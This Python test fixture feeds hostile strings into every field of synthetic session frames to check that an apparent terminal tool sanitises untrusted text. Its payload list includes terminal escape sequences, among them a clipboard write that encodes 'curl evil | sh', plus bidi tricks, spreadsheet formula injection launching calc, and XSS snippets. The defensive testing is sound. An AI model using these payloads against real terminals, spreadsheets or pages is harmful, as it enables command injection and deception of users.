"""Hostile strings in every string field a publisher or a file controls, for the untrusted-text tests.

:func:`hostile_frames` is a session (hello, load, steps with the aux-off break so rules fire and
name the publisher, hooks, configs applied and refused, heartbeats) in which every string value,
every free key and ``src`` itself is one hostile text. :data:`ATTACKS` are the named texts that
broke an output before; :data:`UNSAFE_OUT` is what no terminal output may contain.
"""

from __future__ import annotations

import re

import msgspec

from benchmarks.support.synthetic import hello_body, load_body, step_body
from eagle3scope.wire import Frame, bodies

FORGED = "PASS    min-accept-length: FORGED"
ATTACKS = {
    "clear": "\x1b[2J\x1b[3J\x1b[H",
    "osc8": "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "osc52": "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07",
    "title": "\x1b]0;owned\x07",
    "c1": "\x9b31m\x9d0;t\x9c\x85",
    "bidi": "\u202eevil\u2066x\u2069\u200f",
    "nul": "a\x00b\x7f",
    "newline": f"x\n{FORGED}\r\n{FORGED}",
    "markup": "[bold red]x[/] [link=https://evil.example]y[/link] [@click=app.quit]q[/] [/]",
    "markup-tail": "x\\",
    "formula": '=HYPERLINK("https://evil.example","x")',
    "formula2": "@SUM(1+1)*cmd|' /C calc'!A0",
    "md": "![i](https://evil.example/i.png) [l](https://evil.example) <img src=x onerror=alert(1)> ``` ` *x* | y",
    "html": "<script>alert(1)</script>&amp;",
}
#: no terminal line may hold one of these (newlines are the output's own line breaks)
UNSAFE_OUT = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff]")


def _hostile(value, text: str):
    if isinstance(value, str):
        return text
    if isinstance(value, list):
        return [_hostile(v, text) for v in value]
    if isinstance(value, dict):
        return {k: _hostile(v, text) for k, v in value.items()}
    return value


def _declared(record: type) -> set[str]:
    """The wire names a body record declares."""
    return {f.encode_name for f in msgspec.structs.fields(record)}


def hostile_frames(text: str, n_steps: int = 200, *, started: int | None = None) -> list[Frame]:
    """A session whose every string (``src``, names, paths, details, ids, unknown keys) is ``text``."""
    src, t0 = text, 1_700_000_000_000_000_000
    frames: list[Frame] = []

    def add(kind: str, body: dict, t: int) -> None:
        frames.append(Frame(kind, src, len(frames), t, body))

    hello = _hostile(hello_body(), text)
    hello["server_args"].update(num_steps=3, topk=1, num_draft_tokens=4, cuda_graph=False)
    hello.update(pid=4242, tp_rank=0, dp_rank=0, seams={text: text, "v2.step": "attached"}, observable={text: True})
    if text not in _declared(bodies.Hello):  # an unknown key, as a newer shim's: a declared one keeps its type
        hello[text] = text
    if started is not None:
        hello["started"] = started
    add("hello", hello, t0)
    load = _hostile(load_body(), text)
    load["aux"]["offset_rule"] = text
    if text not in _declared(bodies.Load):
        load[text] = {text: text}
    add("load", load, t0)
    add("hook", {"seam": text, "status": "failed", "detail": text}, t0)
    add("hook", {"seam": "v2.draft", "status": text, "detail": text}, t0)
    add("config", {"layers": [1, 2], "captured": [2, 3], "applied": True, "reason": text, "origin": text,
                   "request_id": text}, t0)
    add("config", {"layers": [9], "captured": None, "applied": False, "reason": text, "origin": text,
                   "request_id": text}, t0)
    for seq in range(n_steps):
        t = t0 + (seq + 1) * 20_000_000
        body = step_body(seq, bs=2, aux_off=True, t_ns=t)
        body["rids"] = [text, text + "-2"]
        for p in body["passes"]:
            if p["mode"] == "decode":
                p["mode"] = text
        if seq % 50 == 7:
            body["mode"] = text
        add("step", body, t)
        if seq % 100 == 99:
            add("heartbeat", {"steps": seq + 1, "dropped": 1, "hook_failures": 1, "queued": 0}, t)
    return frames
